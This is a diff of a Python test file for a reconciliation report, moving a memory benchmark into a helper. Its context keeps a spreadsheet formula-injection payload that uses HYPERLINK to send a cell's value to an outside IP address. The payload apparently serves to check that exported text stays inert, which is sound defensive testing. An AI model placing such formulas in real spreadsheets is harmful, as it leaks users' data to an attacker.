@@ -1,10 +1,7 @@
 """The two lists as a spreadsheet meets them: texts from outside stay texts, amounts stay exact."""
 
 import csv
-import os
 import re
-import subprocess
-import sys
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -18,6 +15,7 @@ from include.reconciliation.report import workbook
 from include.reconciliation.steps import write_discrepancy_report as step
 from include.reconciliation.steps.write_discrepancy_report import write_discrepancy_report
 from tests.report.hand_made_run import HandMadeRun
+from tests.report.measuring import folder_and_megabytes
 
 PAYLOADS = (
     '=HYPERLINK("http://198.51.100.1/?"&A1,"click")',
@@ -185,31 +183,16 @@ def test_a_run_with_nothing_open_has_lists_with_a_header_alone(a_run, cells_of) 
     assert "0 rows, the same as in pending.csv of this folder." == rows[1][0]
 
 
-MEASURE = """
-import sys
-from dataclasses import replace
-from include.reconciliation.bench.memory import peak_bytes
-from include.reconciliation.steps import write_discrepancy_report as step
-step.code_version = lambda: sys.argv[2]
-print(step.write_discrepancy_report(int(sys.argv[1])))
-print(peak_bytes() // 1_000_000)
-"""
-
-
 @pytest.mark.slow
 def test_a_report_of_200_000_pending_items_stays_under_200_mb(an_ordinary_run) -> None:
     attempt_id = an_ordinary_run.write()
     _many_pending_items(an_ordinary_run.session, attempt_id, 200_000)
 
-    done = subprocess.run(
-        [sys.executable, "-c", MEASURE, str(attempt_id), step.code_version()],
-        capture_output=True, text=True, check=True, env=dict(os.environ), timeout=240,
-    )  # fmt: skip
+    folder, megabytes = folder_and_megabytes(attempt_id)
 
-    folder, megabytes = done.stdout.split()
-    with (Path(folder) / "pending.csv").open("rb") as file:
+    with (folder / "pending.csv").open("rb") as file:
         assert 200_003 == sum(1 for _ in file)
-    assert int(megabytes) < 200
+    assert megabytes < 200
 
 
 def _many_pending_items(session: psycopg.Connection[Any], attempt_id: int, items: int) -> None:
